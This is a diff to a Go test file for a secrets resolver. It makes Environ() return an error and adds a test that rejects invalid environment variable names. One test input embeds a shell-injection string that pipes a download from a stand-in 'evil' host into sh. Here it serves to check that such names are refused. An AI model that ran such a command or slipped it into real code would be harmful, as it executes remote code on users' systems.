@@ -61,7 +61,9 @@ func TestResolveFilesystemVaultByDefault(t *testing.T) {
 	require.Len(t, res.Missing, 1, "ollama/OLLAMA_API_BASE_URL is in no source")
 	assert.Equal(t, "ollama/OLLAMA_API_BASE_URL", res.Missing[0].ID)
 	assert.False(t, res.Missing[0].Required)
-	assert.Contains(t, res.Environ(), "POSTGRES_USER=picker")
+	environ, err := res.Environ()
+	require.NoError(t, err)
+	assert.Contains(t, environ, "POSTGRES_USER=picker")
 }
 
 func TestResolveDotenvAlone(t *testing.T) {
@@ -372,4 +374,20 @@ func TestVaultTokenFileAndPathTemplate(t *testing.T) {
 	specs[0].TokenFile = filepath.Join(t.TempDir(), "nope")
 	_, err = resolve.ResolveIDs(context.Background(), sn, []string{"postgres/POSTGRES_USER"}, resolve.Options{Sources: specs, Getenv: getenv(nil)})
 	assert.ErrorContains(t, err, "read token file")
+}
+
+// TestEnvironRefusesNamesThatAreNotVariables: a key such as "A-B" or a name
+// carrying "=" or shell syntax never reaches a child's environment or an
+// eval'd shell line.
+func TestEnvironRefusesNamesThatAreNotVariables(t *testing.T) {
+	for _, name := range []string{"A-B", "X=1", "X=1; curl evil|sh; :", "1ABC", "", "A.B"} {
+		res := &resolve.Result{Values: []resolve.Value{{ID: "db/KEY", Env: name, Value: "v"}}}
+		_, err := res.Environ()
+		require.Error(t, err, "%q", name)
+		assert.Contains(t, err.Error(), "not a valid environment variable name")
+	}
+	res := &resolve.Result{Values: []resolve.Value{{ID: "db/KEY", Env: "DB_KEY_2", Value: "v"}}}
+	env, err := res.Environ()
+	require.NoError(t, err)
+	assert.Equal(t, []string{"DB_KEY_2=v"}, env)
 }
